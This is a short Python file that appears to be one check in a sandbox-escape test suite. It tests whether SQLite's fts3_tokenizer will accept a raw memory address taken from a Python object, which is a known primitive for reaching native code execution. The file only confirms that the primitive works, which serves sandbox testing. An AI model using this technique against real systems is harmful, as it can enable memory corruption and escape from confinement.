# class: machine_code
# rule: native_code
# needs: module:pysqlite3
# success: SQLite inside an extension module takes the address of a table of functions from a blob
# proof: word
import struct

from attack import attempt
from pysqlite3 import dbapi2


@attempt
def give():
    table = bytes(256)
    address = struct.pack("P", id(table) + 32)
    connection = dbapi2.connect(":memory:")
    connection.execute("SELECT fts3_tokenizer(?, ?)", ("mine", address)).fetchone()
    return connection.execute("SELECT fts3_tokenizer(?)", ("mine",)).fetchone()[0] == address
